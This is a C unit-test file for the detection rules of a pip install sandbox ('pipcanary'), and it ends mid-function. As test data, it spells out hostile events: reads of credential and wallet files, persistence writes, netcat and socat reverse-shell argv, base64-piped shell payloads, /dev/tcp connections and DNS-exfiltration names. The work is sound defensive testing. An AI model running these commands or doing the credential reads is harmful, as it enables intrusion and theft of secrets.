/* Unit tests of rules.c: the loader's messages, matching semantics, and the
 * default rule set (rules/default.rules) against hand-made events: each
 * rule id is hit by the event it names, benign look-alikes hit nothing. */
#include "testutil.h"
#include "rules.h"
#include "util.h"

#define HOME "/home/sebastian"

static const char *const allowed[] = {"127.0.0.1:8080", "127.0.0.53:53", NULL};

static struct ruleset *defaults(void)
{
	struct ruleset *rs = ruleset_new();
	/* PIPCANARY_RULES_DIR is the source tree's rules/ (Makefile) */
	assert_int_equal(ruleset_load_file(rs, PIPCANARY_RULES_DIR "/default.rules"), 0);
	return rs;
}

static struct rule_event ev_path(enum event_class cls, const char *path,
				 const char *phase)
{
	struct rule_event ev = {.cls = cls, .syscall = "openat", .path = path,
				.phase = phase, .home = HOME,
				.allowed_peers = allowed};
	return ev;
}

/* Ids that some test's event matched (test_every_default_rule_hit, run
 * last, checks that each default rule was hit by a hand-made event). */
static struct strvec hit_ids = STRVEC_INIT;

/* The id of the rule that matches, or "" */
static char *match_id(const struct ruleset *rs, const struct rule_event *ev,
		      char **shown)
{
	char *sp = NULL;
	const struct rule *r = ruleset_match(rs, ev, &sp);
	if (shown)
		*shown = sp;
	else
		free(sp);
	if (r)
		strvec_push(&hit_ids, rule_id(r));
	return xstrdup(r ? rule_id(r) : "");
}

#define EXPECT(rs, ev, id) do { \
	char *got_ = match_id((rs), &(ev), NULL); \
	if (strcmp(got_, (id)) != 0) \
		fail_msg("%s:%d: expected rule '%s', got '%s'", __FILE__, __LINE__, (id), got_); \
	free(got_); \
} while (0)

static void test_ssh_brief_wording(void **state)
{
	struct ruleset *rs = defaults();
	struct rule_event ev = ev_path(EVENT_READ, HOME "/.ssh/id_rsa", "import");
	char *shown = NULL;
	const struct rule *r = ruleset_match(rs, &ev, &shown);
	assert_non_null(r);
	assert_string_equal(rule_id(r), "ssh-private-key");
	/* the brief: "Found suspicious access to /home/sebastian/.ssh" */
	assert_string_equal(shown, HOME "/.ssh");
	assert_string_equal(rule_description(r), "SSH private key exfiltration.");
	assert_string_equal(rule_explanation(r),
		"The package might be trying to steal your Secure Shell private keys.");
	assert_int_equal(rule_severity(r), SEV_CRITICAL);
	assert_string_equal(rule_category(r), "credentials");
	free(shown);
	/* the folder itself (listing it) is the same rule */
	ev.path = HOME "/.ssh";
	EXPECT(rs, ev, "ssh-private-key");
	/* another home: not under the decoy home */
	ev.path = "/home/other/.ssh/id_rsa";
	EXPECT(rs, ev, "");
	ruleset_free(rs);
}

struct pcase {
	enum event_class cls;
	const char *path;
	const char *phase;
	const char *id;
};

static void test_default_path_rules(void **state)
{
	static const struct pcase cases[] = {
		{EVENT_READ, HOME "/.ssh/id_ed25519", "install", "ssh-private-key"},
		{EVENT_PROBE, HOME "/.ssh/id_rsa", "build", "ssh-private-key"},
		{EVENT_WRITE, HOME "/.ssh/authorized_keys", "import", "persist-ssh-authorized-keys"},
		{EVENT_READ, HOME "/.aws/credentials", "import", "aws-credentials"},
		{EVENT_READ, HOME "/.config/gcloud/application_default_credentials.json", "import", "gcp-credentials"},
		{EVENT_READ, HOME "/.azure/accessTokens.json", "import", "azure-credentials"},
		{EVENT_READ, HOME "/.kube/config", "build", "kube-config"},
		{EVENT_READ, HOME "/.docker/config.json", "import", "docker-config"},
		{EVENT_READ, HOME "/.netrc", "import", "netrc"},
		{EVENT_READ, HOME "/.pypirc", "build", "pypirc"},
		{EVENT_READ, HOME "/.npmrc", "import", "npmrc"},
		{EVENT_READ, HOME "/.git-credentials", "import", "git-credentials"},
		{EVENT_READ, HOME "/.gnupg/private-keys-v1.d/ABC.key", "import", "gnupg"},
		{EVENT_READ, HOME "/.bash_history", "import", "shell-history"},
		{EVENT_READ, HOME "/.zsh_history", "startup", "shell-history"},
		{EVENT_READ, HOME "/.config/google-chrome/Default/Login Data", "import", "browser-chromium"},
		{EVENT_READ, HOME "/.config/chromium/Profile 1/Cookies", "import", "browser-chromium"},
		{EVENT_READ, HOME "/.config/BraveSoftware/Brave-Browser/Local State", "import", "browser-chromium"},
		{EVENT_READ, HOME "/.mozilla/firefox/abcd.default-release/logins.json", "import", "browser-firefox"},
		{EVENT_READ, HOME "/.mozilla/firefox/abcd.default-release/key4.db", "import", "browser-firefox"},
		{EVENT_READ, HOME "/.mozilla/firefox/x/cookies.sqlite", "import", "browser-firefox"},
		{EVENT_READ, HOME "/.config/discord/Local Storage/leveldb/000003.log", "import", "discord"},
		{EVENT_READ, HOME "/.local/share/TelegramDesktop/tdata/key_datas", "import", "telegram"},
		{EVENT_READ, HOME "/.electrum/wallets/default_wallet", "import", "wallet-electrum"},
		{EVENT_READ, HOME "/.config/Exodus/exodus.wallet/seed.seco", "import", "wallet-exodus"},
		{EVENT_READ, HOME "/.config/atomic/Local Storage/leveldb/000003.log", "import", "wallet-atomic"},
		{EVENT_READ, HOME "/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log", "import", "wallet-metamask"},
		{EVENT_READ, "/etc/shadow", "install", "etc-shadow"},
		{EVENT_READ, "/etc/sudoers", "import", "etc-sudoers"},
		{EVENT_READ, "/etc/sudoers.d/90-cloud", "import", "etc-sudoers"},
		{EVENT_READ, "/proc/1/environ", "import", "proc-environ"},
		{EVENT_READ, "/proc/self/environ", "startup", "proc-environ"},
		{EVENT_WRITE, HOME "/.bashrc", "build", "persist-shell-rc"},
		{EVENT_WRITE, HOME "/.profile", "import", "persist-shell-rc"},
		{EVENT_WRITE, HOME "/.zshrc", "import", "persist-shell-rc"},
		{EVENT_WRITE, HOME "/.bash_profile", "import", "persist-shell-rc"},
		{EVENT_WRITE, "/etc/profile.d/evil.sh", "import", "persist-shell-rc"},
		{EVENT_WRITE, HOME "/.config/autostart/update.desktop", "import", "persist-autostart"},
		{EVENT_WRITE, HOME "/.config/systemd/user/update.service", "import", "persist-systemd-user"},
		{EVENT_WRITE, "/var/spool/cron/crontabs/sebastian", "import", "persist-cron"},
		{EVENT_WRITE, "/etc/cron.d/evil", "build", "persist-cron"},
		{EVENT_WRITE, "/venv/lib/python3.11/site-packages/zzz_evil.pth", "build", "pth-injection"},
		{EVENT_WRITE, "/venv/lib/python3.11/site-packages/sitecustomize.py", "import", "pth-injection"},
		{EVENT_WRITE, HOME "/.local/lib/python3.11/site-packages/usercustomize.py", "startup", "pth-injection"},
		{EVENT_READ, "/proc/4242/mem", "import", "proc-mem"},
		{EVENT_READ, "/dev/mem", "import", "dev-mem"},
		{EVENT_WRITE, "/etc/ld.so.preload", "build", "persist-ld-preload"},
		{EVENT_WRITE, HOME "/.config/pip/pip.conf", "build", "persist-pip-config"},
		{EVENT_READ, "/etc/ssh/ssh_host_ed25519_key", "import", "ssh-host-keys"},
		{EVENT_READ, HOME "/.config/gh/hosts.yml", "import", "dev-tokens"},
		{EVENT_READ, HOME "/.cache/huggingface/token", "import", "dev-tokens"},
		{EVENT_READ, HOME "/.oci/config", "import", "cloud-other-credentials"},
		{EVENT_READ, HOME "/.pgpass", "build", "db-credentials"},
		{EVENT_READ, HOME "/.local/share/keyrings/login.keyring", "import", "desktop-keyrings"},
		{EVENT_READ, HOME "/.config/Slack/Cookies", "import", "messenger-sessions"},
		{EVENT_READ, HOME "/.bitcoin/wallet.dat", "import", "wallet-bitcoin-core"},
		{EVENT_READ, HOME "/.ethereum/keystore/UTC--2020-01-01", "import", "wallet-ethereum"},
		{EVENT_READ, HOME "/.mozilla/firefox/x.default/extensions/webextension@metamask.io.xpi", "import", "wallet-metamask"},
		{EVENT_PROBE, "/proc/1/root/etc/shadow", "import", "proc-root"},
		{EVENT_WRITE, "/sys/fs/cgroup/cgroup.procs", "import", "sysfs-write"},
		{EVENT_WRITE, "/etc/systemd/system/evil.service", "build", "persist-systemd-system"},
		{EVENT_WRITE, HOME "/.gitconfig", "import", "persist-gitconfig"},
		{EVENT_WRITE, "/etc/shadow", "import", "etc-shadow"},
		{EVENT_WRITE, "/proc/self/task/7/mem", "import", "proc-mem"},
	};
	struct ruleset *rs = defaults();
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct rule_event ev = ev_path(cases[i].cls, cases[i].path, cases[i].phase);
		char *got = match_id(rs, &ev, NULL);
		if (strcmp(got, cases[i].id) != 0)
			fail_msg("%s (%s): expected '%s', got '%s'", cases[i].path,
				 cases[i].phase, cases[i].id, got);
		free(got);
	}
	ruleset_free(rs);
}

/* What real pip, Python, setuptools and compilers touch: no rule. */
static void test_default_benign_paths(void **state)
{
	static const struct pcase cases[] = {
		{EVENT_READ, HOME "/.config/pip/pip.conf", "install", ""},
		{EVENT_PROBE, HOME "/.config/pip/pip.conf", "install", ""},
		{EVENT_READ, HOME "/.pip/pip.conf", "install", ""},
		{EVENT_READ, "/etc/pip.conf", "install", ""},
		{EVENT_READ, "/etc/xdg/pip/pip.conf", "install", ""},
		{EVENT_PROBE, HOME "/.local/lib/python3.11/site-packages", "startup", ""},
		{EVENT_PROBE, HOME "/.local", "import", ""},
		{EVENT_READ, "/etc/passwd", "import", ""},
		{EVENT_READ, HOME "/.cache/pip/http/x", "install", ""},
		{EVENT_WRITE, HOME "/.cache/pip/selfcheck.json", "install", ""},
		{EVENT_WRITE, "/tmp/pip-unpack-abc/x.whl", "install", ""},
		{EVENT_WRITE, "/tmp/ccAbCdEf.s", "build", ""},
		{EVENT_READ, "/usr/lib/python3.11/os.py", "import", ""},
		{EVENT_READ, "/proc/self/maps", "import", ""},
		{EVENT_READ, "/proc/self/status", "import", ""},
		/* pip's own install of a wheel's .pth (setuptools'
		 * distutils-precedence.pth) happens in the install phase */
		{EVENT_WRITE, "/venv/lib/python3.11/site-packages/distutils-precedence.pth", "install", ""},
		/* build isolation env and the sdist's own build folders */
		{EVENT_WRITE, "/tmp/pip-build-env-x1/overlay/lib/python3.11/site-packages/distutils-precedence.pth", "build", ""},
		{EVENT_WRITE, "/tmp/pip-install-abc/markupsafe/build/lib/site-packages/x.pth", "build", ""},
		{EVENT_READ, HOME "/.bashrc", "import", ""},           /* reading: no persistence */
		{EVENT_READ, HOME "/.ssh.txt", "import", ""},
		{EVENT_READ, HOME "/.sshrc-notes/id_rsa", "import", ""},
		{EVENT_READ, "/etc/shadow.example", "import", ""},
		{EVENT_READ, HOME "/.config/google-chrome/Default/Preferences", "import", ""},
	};
	struct ruleset *rs = defaults();
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct rule_event ev = ev_path(cases[i].cls, cases[i].path, cases[i].phase);
		char *got = match_id(rs, &ev, NULL);
		if (strcmp(got, "") != 0)
			fail_msg("benign %s (%s) matched '%s'", cases[i].path,
				 cases[i].phase, got);
		free(got);
	}
	ruleset_free(rs);
}

static struct rule_event ev_exec(const char *path, const char *const *argv,
				 const char *phase)
{
	struct rule_event ev = {.cls = EVENT_EXEC, .syscall = "execve",
				.path = path, .argv = argv, .phase = phase,
				.home = HOME, .allowed_peers = allowed};
	return ev;
}

static void test_default_exec_rules(void **state)
{
	struct ruleset *rs = defaults();
	const char *curl[] = {"curl", "-s", "http://x/p", NULL};
	struct rule_event ev = ev_exec("/usr/bin/curl", curl, "build");
	EXPECT(rs, ev, "exec-downloader");
	const char *wget[] = {"wget", "-q", "http://x/p", NULL};
	ev = ev_exec("/usr/bin/wget", wget, "import");
	EXPECT(rs, ev, "exec-downloader");
	const char *nc[] = {"nc", "-e", "/bin/sh", "1.2.3.4", "9", NULL};
	ev = ev_exec("/usr/bin/nc", nc, "import");
	EXPECT(rs, ev, "exec-netcat");
	const char *socat[] = {"socat", "tcp:1.2.3.4:9", "exec:sh", NULL};
	ev = ev_exec("/usr/bin/socat", socat, "import");
	EXPECT(rs, ev, "exec-netcat");

	const char *b64[] = {"sh", "-c", "echo Y3VybCBodHRwOi8veA== | base64 -d | sh", NULL};
	ev = ev_exec("/bin/sh", b64, "build");
	EXPECT(rs, ev, "exec-shell-payload");
	const char *pipe_sh[] = {"bash", "-c", "cat /tmp/x | bash", NULL};
	ev = ev_exec("/usr/bin/bash", pipe_sh, "import");
	EXPECT(rs, ev, "exec-shell-payload");
	const char *evalp[] = {"bash", "-lc", "eval \"$(printf x)\"", NULL};
	ev = ev_exec("/usr/bin/bash", evalp, "import");
	EXPECT(rs, ev, "exec-shell-payload");
	const char *devtcp[] = {"bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/9", NULL};
	ev = ev_exec("/usr/bin/bash", devtcp, "import");
	EXPECT(rs, ev, "exec-shell-payload");
	/* benign shells: what build tools run */
	const char *benign1[] = {"sh", "-c", "gcc -v", NULL};
	ev = ev_exec("/bin/sh", benign1, "build");
	EXPECT(rs, ev, "");
	const char *benign2[] = {"sh", "./configure", "--prefix=/usr", NULL};
	ev = ev_exec("/bin/sh", benign2, "build");
	EXPECT(rs, ev, "");
	const char *benign3[] = {"uname", "-rs", NULL};
	ev = ev_exec("/usr/bin/uname", benign3, "build");
	EXPECT(rs, ev, "");
	/* "base64" without -c is a script argument, not a payload */
	const char *benign4[] = {"sh", "build_base64.sh", NULL};
	ev = ev_exec("/bin/sh", benign4, "build");
	EXPECT(rs, ev, "");

	const char *py[] = {"python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))", NULL};
	ev = ev_exec("/usr/bin/python3", py, "import");
	EXPECT(rs, ev, "exec-python-payload");
	/* pip's legacy setup.py shim uses exec(compile(...)): benign */
	const char *shim[] = {"/venv/bin/python", "-u", "-c", "import io, os, sys, setuptools, tokenize; exec(compile(code, __file__, \"exec\"))", NULL};
	ev = ev_exec("/venv/bin/python", shim, "build");
	EXPECT(rs, ev, "");

	const char *dropped[] = {"/tmp/.x/payload", NULL};
	ev = ev_exec("/tmp/.x/payload", dropped, "import");
	EXPECT(rs, ev, "exec-dropped-file");
	ev = ev_exec("/dev/shm/p", dropped, "startup");
	EXPECT(rs, ev, "exec-dropped-file");
	ev = ev_exec(HOME "/.local/bin/miner", dropped, "import");
	EXPECT(rs, ev, "exec-dropped-file");
	ev = ev_exec("/tmp/.x/payload", dropped, "build");
	EXPECT(rs, ev, "exec-dropped-file-build");
	/* the venv's interpreter (/pipcanary/venv in the sandbox), --python's
	 * prefix bound under the home (pyenv) and pip's build env in the
	 * install phases are not dropped files */
	const char *venvpy[] = {"/pipcanary/venv/bin/python", NULL};
	ev = ev_exec("/pipcanary/venv/bin/python", venvpy, "import");
	EXPECT(rs, ev, "");
	const char *pyenv[] = {"python3.11", "-c", "pass", NULL};
	ev = ev_exec(HOME "/.pyenv/versions/3.11.7/bin/python3.11", pyenv, "import");
	EXPECT(rs, ev, "");
	ev.phase = "build";
	EXPECT(rs, ev, "");
	const char *cmake[] = {"cmake", "--version", NULL};
	ev = ev_exec("/tmp/pip-build-env-q1/overlay/bin/cmake", cmake, "build");
	EXPECT(rs, ev, "");
	const char *conf[] = {"./configure", NULL};
	ev = ev_exec("/tmp/pip-install-ab12/pkg_0123/configure", conf, "install");
	EXPECT(rs, ev, "");
	/* ... but the look-alikes are dropped files: a "python3" in /tmp, and
	 * pip's folder names at import, where no build runs */
	ev = ev_exec("/tmp/x/bin/python3", venvpy, "import");
	EXPECT(rs, ev, "exec-dropped-file");
	ev.phase = "build";
	EXPECT(rs, ev, "exec-dropped-file-build");
	ev = ev_exec("/tmp/pip-build-env-q1/overlay/bin/cmake", cmake, "import");
	EXPECT(rs, ev, "exec-dropped-file");
	/* compilers run by a real sdist build (MarkupSafe) */
	const char *gcc[] = {"/usr/bin/x86_64-linux-gnu-gcc", "-fPIC", "-c", "src/markupsafe/_speedups.c", NULL};
	ev = ev_exec("/usr/bin/x86_64-linux-gnu-gcc", gcc, "build");
	EXPECT(rs, ev, "");
	const char *cc1[] = {"/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", NULL};
	ev = ev_exec("/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", cc1, "build");
	EXPECT(rs, ev, "");

	const char *memfd[] = {"x", NULL};
	ev = ev_exec("/proc/self/fd/3", memfd, "import");
	EXPECT(rs, ev, "memfd-exec");
	ev = ev_exec("/memfd:x (deleted)", memfd, "import");
	ev.after_memfd = true;
	EXPECT(rs, ev, "memfd-exec");

	const char *sudo[] = {"sudo", "-n", "id", NULL};
	ev = ev_exec("/usr/bin/sudo", sudo, "import");
	EXPECT(rs, ev, "exec-privilege");
	const char *unshare[] = {"unshare", "-r", "sh", NULL};
	ev = ev_exec("/usr/bin/unshare", unshare, "build");
	EXPECT(rs, ev, "exec-namespace-tools");

	const char *cron[] = {"crontab", "/tmp/x", NULL};
	ev = ev_exec("/usr/bin/crontab", cron, "import");
	EXPECT(rs, ev, "persist-cron");
	ruleset_free(rs);
}

static struct rule_event ev_conn(const char *peer, const char *phase)
{
	struct rule_event ev = {.cls = EVENT_CONNECT, .syscall = "connect",
				.peer = peer, .phase = phase, .home = HOME,
				.allowed_peers = allowed};
	return ev;
}

static void test_default_network_rules(void **state)
{
	struct ruleset *rs = defaults();
	struct rule_event ev = ev_conn("127.0.0.1:8080", "import");
	EXPECT(rs, ev, "net-import");          /* even the index, at import */
	ev = ev_conn("[::1]:53", "startup");
	EXPECT(rs, ev, "net-import");
	ev = ev_conn("/run/nscd/socket", "import");
	EXPECT(rs, ev, "");                    /* glibc NSS, by itself */
	ev = ev_conn("AF_NETLINK", "import");
	EXPECT(rs, ev, "");

	ev = ev_conn("127.0.0.1:8080", "install");
	EXPECT(rs, ev, "");                    /* the index */
	ev = ev_conn("127.0.0.53:53", "install");
	EXPECT(rs, ev, "");                    /* the resolver */
	ev = ev_conn("127.0.0.2:9", "install");
	EXPECT(rs, ev, "net-unexpected-peer");
	ev = ev_conn("[2001:db8::1]:443", "build");
	EXPECT(rs, ev, "net-unexpected-peer");
	ev = ev_conn("10.0.0.1:80", "resolve");   /* --no-scan's dry run */
	EXPECT(rs, ev, "net-unexpected-peer");
	ev = ev_conn("127.0.0.1:8080", "resolve");
	EXPECT(rs, ev, "");
	ev = ev_conn("/run/nscd/socket", "install");
	EXPECT(rs, ev, "");
	/* glibc's getaddrinfo() resets its sorting socket with AF_UNSPEC;
	 * NSS asks systemd's user database */
	ev = ev_conn("AF_UNSPEC", "install");
	EXPECT(rs, ev, "");
	ev = ev_conn("AF_UNSPEC", "import");
	EXPECT(rs, ev, "");
	ev = ev_conn("/run/systemd/userdb/io.systemd.DynamicUser", "import");
	EXPECT(rs, ev, "");
	ev = ev_conn("AF_PACKET", "install");    /* any other family is not */
	EXPECT(rs, ev, "net-unexpected-peer");
	ev = ev_conn("/run/systemd/resolve/io.systemd.Resolve", "install");
	EXPECT(rs, ev, "");
	ev = ev_conn("/run/systemd/resolve/io.systemd.Resolve", "import");
	EXPECT(rs, ev, "net-import");           /* a host lookup at import */
	ev = ev_conn("/run/dbus/system_bus_socket", "install");
	EXPECT(rs, ev, "net-unexpected-peer");  /* documented: other AF_UNIX */

	ev = ev_conn("/var/run/docker.sock", "install");
	EXPECT(rs, ev, "docker-socket");
	ev = ev_conn(HOME "/.ssh/agent.sock", "install");
	EXPECT(rs, ev, "ssh-agent");

	/* DNS queries: the name in path, the resolver in peer */
	ev = ev_conn("127.0.0.53:53", "install");
	ev.syscall = "sendto";
	ev.path = "files.pythonhosted.org";
	EXPECT(rs, ev, "");
	ev.path = "6c6f67696e3a73656261737469616e3a68756e746572.x.evil.example";
	EXPECT(rs, ev, "dns-odd-name");
	ev.path = "a.b.c.d.e.f.g.h.evil.example";
	EXPECT(rs, ev, "dns-odd-name");
	/* to a resolver that is not an allowed peer, or at import: the odd
	 * name is what the finding is about (the fixture's evil-dns) */
	ev.peer = "127.0.0.1:53";
	ev.path = "cGlwY2FuYXJ5LWZpeHR1cmUtZXhmaWx0cmF0aW9uLXRlc3QtZGF0YQ.x7f3k9q2.exfil.invalid";
	EXPECT(rs, ev, "dns-odd-name");
	ev.phase = "import";
	EXPECT(rs, ev, "dns-odd-name");
	ev.path = "pypi.org";                       /* an ordinary name */
	EXPECT(rs, ev, "net-import");
	ev.phase = "build";
	EXPECT(rs, ev, "net-unexpected-peer");

	struct rule_event sc = {.cls = EVENT_SYSCALL, .syscall = "ptrace",
				.phase = "import", .home = HOME};
	EXPECT(rs, sc, "ptrace");
	sc.syscall = "io_uring_setup";
	EXPECT(rs, sc, "io-uring");
	sc.syscall = "memfd_create";
	EXPECT(rs, sc, "");                    /* libffi does it; exec is the rule */
	ruleset_free(rs);
}

/* Every rule id the fixture catalogue names exists; at least 40 rules. */
static void test_default_catalogue(void **state)
{
	static const char *ids[] = {"ssh-private-key", "aws-credentials",
		"gcp-credentials", "azure-credentials", "kube-config",
		"docker-config", "netrc", "pypirc", "npmrc", "git-credentials",
		"gnupg", "shell-history", "browser-chromium", "browser-firefox",
		"discord", "telegram", "wallet-electrum", "wallet-exodus",
		"wallet-atomic", "wallet-metamask", "etc-shadow", "etc-sudoers",
		"proc-environ", "persist-shell-rc", "persist-autostart",
		"persist-systemd-user", "persist-cron", "pth-injection",
		"exec-downloader", "exec-netcat", "exec-shell-payload",
		"exec-dropped-file", "memfd-exec", "net-import",
		"net-unexpected-peer", "dns-odd-name", "ptrace", "io-uring"};
	struct ruleset *rs = defaults();
	assert_true(ruleset_count(rs) >= 40);
	struct strbuf sb = STRBUF_INIT;
	assert_int_equal(strbuf_read_file(&sb, PIPCANARY_RULES_DIR "/default.rules", 0), 0);
	for (size_t i = 0; i < ARRAY_SIZE(ids); i++) {
		char *needle = xasprintf("\nrule %s\n", ids[i]);
		if (!strstr(sb.buf, needle))
			fail_msg("default.rules lacks rule %s", ids[i]);
		free(needle);
	}
	strbuf_release(&sb);
	ruleset_free(rs);
}

/* ---- loader ---- */

static char *capture_stderr_load(const char *name, const char *text, int *problems)
{
	fflush(stderr);
	char tmpl[] = "/tmp/test_rules_XXXXXX";
	int fd = mkstemp(tmpl);
	assert_true(fd >= 0);
	int saved = dup(2);
	dup2(fd, 2);
	struct ruleset *rs = ruleset_new();
	*problems = ruleset_load_string(rs, name, text);
	fflush(stderr);
	dup2(saved, 2);
	close(saved);
	close(fd);
	struct strbuf sb = STRBUF_INIT;
	assert_int_equal(strbuf_read_file(&sb, tmpl, 0), 0);
	unlink(tmpl);
	ruleset_free(rs);
	return strbuf_detach(&sb);
}

static void test_loader_reports_every_problem(void **state)
{
	const char *text =
		"# comment\n"                                  /* 1 */
		"severity high\n"                              /* 2 outside */
		"rule good-one\n"                              /* 3 */
		"category c\n"
		"severity high\n"
		"match read ~/.x\n"
		"description D.\n"
		"explanation E.\n"
		"rule bad-one\n"                               /* 9 */
		"category c\n"
		"severity urgent\n"                            /* 11 */
		"match reed ~/.y\n"                            /* 12 */
		"match read relative/path\n"                   /* 13 */
		"phase later\n"                                /* 14 */
		"regex (unclosed\n"                            /* 15 */
		"frobnicate yes\n"                             /* 16 */
		"description D.\n"
		"description again.\n"                         /* 18 */
		"rule Bad_Id\n"                                /* 19 */
		"rule incomplete\n"                            /* 20 */
		"category c\n";
	int n;
	char *err = capture_stderr_load("my.rules", text, &n);
	const char *want[] = {
		"my.rules:2: 'severity' outside a rule",
		"my.rules:11: unknown severity 'urgent'",
		"my.rules:12: unknown event class 'reed'",
		"my.rules:13: path pattern 'relative/path' must start with /, ~/ or **/",
		"my.rules:14: unknown phase 'later'",
		"my.rules:15: bad regex '(unclosed'",
		"my.rules:16: unknown keyword 'frobnicate'",
		"my.rules:18: second description line in rule bad-one",
		"my.rules:9: rule bad-one has no severity line",
		"my.rules:9: rule bad-one has no explanation line",
		"my.rules:19: bad rule id 'Bad_Id'",
		"my.rules:20: rule incomplete has no severity line",
		"my.rules:20: rule incomplete has no description line",
		"my.rules:20: rule incomplete has no match line",
	};
	for (size_t i = 0; i < ARRAY_SIZE(want); i++)
		if (!strstr(err, want[i]))
			fail_msg("missing message '%s' in:\n%s", want[i], err);
	/* one line per problem, each "FILE:LINE: " */
	int lines = 0;
	for (const char *p = err; *p; p++)
		lines += *p == '\n';
	assert_int_equal(lines, n);
	assert_true(n >= (int)ARRAY_SIZE(want));
	free(err);
}

static void test_loader_unreadable_file(void **state)
{
	struct ruleset *rs = ruleset_new();
	fflush(stderr);
	assert_int_equal(ruleset_load_file(rs, "/nonexistent/x.rules"), 1);
	assert_int_equal(ruleset_count(rs), 0);
	ruleset_free(rs);
}

static void test_matching_semantics(void **state)
{
	const char *text =
		"rule low-any\ncategory t\nseverity low\nmatch read /data/**\n"
		"description L.\nexplanation L.\n"
		"rule high-secret\ncategory t\nseverity high\nmatch read,write /data/*/secret\n"
		"except read /data/public/secret\nphase import\n"
		"description H.\nexplanation H.\n"
		"rule show-it\ncategory t\nseverity medium\nmatch write ~/dir/**/x.txt\n"
		"show ~/dir\ndescription S.\nexplanation S.\n"
		"rule spaced\ncategory t\nseverity medium\nmatch read ~/a%20b/c?\n"
		"description P.\nexplanation P.\n"
		"rule memfd-only\ncategory t\nseverity medium\nmatch exec any\n"
		"when after-memfd\ndescription M.\nexplanation M.\n";
	struct ruleset *rs = ruleset_new();
	assert_int_equal(ruleset_load_string(rs, "t.rules", text), 0);
	assert_int_equal(ruleset_count(rs), 5);

	struct rule_event ev = ev_path(EVENT_READ, "/data/a/secret", "import");
	char *shown = NULL;
	char *id = match_id(rs, &ev, &shown);
	assert_string_equal(id, "high-secret");  /* most severe wins */
	assert_string_equal(shown, "/data/a/secret");
	free(id);
	free(shown);
	ev.phase = "install";                        /* phase restriction */
	id = match_id(rs, &ev, &shown);
	assert_string_equal(id, "low-any");
	assert_string_equal(shown, "/data");         /* folder of X/ + ** */
	free(id);
	free(shown);
	ev.phase = "import";
	ev.path = "/data/public/secret";             /* except */
	EXPECT(rs, ev, "low-any");
	ev.path = "/data/a/b/secret";                /* '*' stays in one folder */
	EXPECT(rs, ev, "low-any");
	ev.path = "/database";
	EXPECT(rs, ev, "");
	ev.path = "/data";
	EXPECT(rs, ev, "low-any");

	ev = ev_path(EVENT_WRITE, HOME "/dir/x.txt", "build"); /* ** = zero folders */
	id = match_id(rs, &ev, &shown);
	assert_string_equal(id, "show-it");
	assert_string_equal(shown, HOME "/dir");
	free(id);
	free(shown);
	ev.path = HOME "/dir/p/q/x.txt";
	EXPECT(rs, ev, "show-it");
	ev.cls = EVENT_READ;                         /* class matters */
	EXPECT(rs, ev, "");
	ev.home = NULL;                              /* no home: ~ never matches */
	ev.cls = EVENT_WRITE;
	EXPECT(rs, ev, "");

	ev = ev_path(EVENT_READ, HOME "/a b/c1", "import");
	EXPECT(rs, ev, "spaced");
	ev.path = HOME "/a b/c/";
	EXPECT(rs, ev, "");                          /* '?' is not '/' */

	const char *argv[] = {"ls", NULL};
	struct rule_event ex = ev_exec("/bin/ls", argv, "import");
	EXPECT(rs, ex, "");
	ex.after_memfd = true;
	EXPECT(rs, ex, "memfd-only");
	ruleset_free(rs);
}

/* A later file's rule with the same id replaces the earlier one; the same
 * id twice in one file is an error. */
static void test_override_and_duplicates(void **state)
{
	struct ruleset *rs = defaults();
	size_t n = ruleset_count(rs);
	const char *mine = "rule ssh-private-key\ncategory credentials\nseverity low\n"
			   "match read ~/.ssh/id_*\ndescription Mine.\nexplanation Mine.\n";
	assert_int_equal(ruleset_load_string(rs, "user.rules", mine), 0);
	assert_int_equal(ruleset_count(rs), n);
	struct rule_event ev = ev_path(EVENT_READ, HOME "/.ssh/id_rsa", "import");
	char *shown = NULL;
	const struct rule *r = ruleset_match(rs, &ev, &shown);
	assert_non_null(r);
	assert_string_equal(rule_description(r), "Mine.");
	assert_int_equal(rule_severity(r), SEV_LOW);
	free(shown);
	ruleset_free(rs);

	int problems;
	char *err = capture_stderr_load("d.rules",
		"rule a\ncategory c\nseverity low\nmatch read /x\ndescription D.\nexplanation E.\n"
		"rule a\ncategory c\nseverity low\nmatch read /y\ndescription D.\nexplanation E.\n",
		&problems);
	assert_int_equal(problems, 1);
	assert_non_null(strstr(err, "d.rules:7: duplicate rule id a (first at line 1)"));
	free(err);
}

/* A payload after 1 MiB of padding in a shell's argv is still found (and
 * the default regexes are anchored, so this takes milliseconds rather than
 * the minutes an unanchored ".*" would on this subject). */
static void test_hostile_argv(void **state)
{
	struct ruleset *rs = defaults();
	enum { N = 256 };
	const char *argv[N + 4];
	char *pad = xmalloc(4097);
	for (int i = 0; i < 4096; i++)
		pad[i] = " -c | s"[i % 7];
	pad[4096] = '\0';
	argv[0] = "sh";
	argv[1] = "-c";
	for (int i = 0; i < N; i++)
		argv[2 + i] = pad;
	argv[N + 2] = NULL;
	struct rule_event ev = ev_exec("/bin/sh", argv, "build");
	EXPECT(rs, ev, "");
	argv[N + 2] = "echo Y3VybA== | base64 -d | sh";
	argv[N + 3] = NULL;
	EXPECT(rs, ev, "exec-shell-payload");
	argv[0] = "python3";
	argv[N + 2] = "exec(zlib.decompress(b'x'))";
	ev.path = "/usr/bin/python3";
	EXPECT(rs, ev, "exec-python-payload");
	free(pad);
	ruleset_free(rs);
}

/* Hostile paths must not make matching slow or crash (budget). */
static void test_hostile_paths(void **state)
{
	struct ruleset *rs = defaults();
	char *path = xmalloc(8200);
	memset(path, '/', 8199);
	path[8199] = '\0';
	struct rule_event ev = ev_path(EVENT_WRITE, path, "build");
	char *id = match_id(rs, &ev, NULL);
	free(id);
	for (int i = 0; i < 8199; i++)
		path[i] = i % 2 ? '/' : 'a';
	ev.path = path;
	id = match_id(rs, &ev, NULL);
	assert_string_equal(id, "");
	free(id);
	free(path);
	ruleset_free(rs);
}

/* Every rule of the default set is hit by at least one hand-made event of
 * the tests above (which run first), so no rule is dead or shadowed. */
static void test_every_default_rule_hit(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	assert_int_equal(strbuf_read_file(&sb, PIPCANARY_RULES_DIR "/default.rules", 0), 0);
	size_t rules = 0;
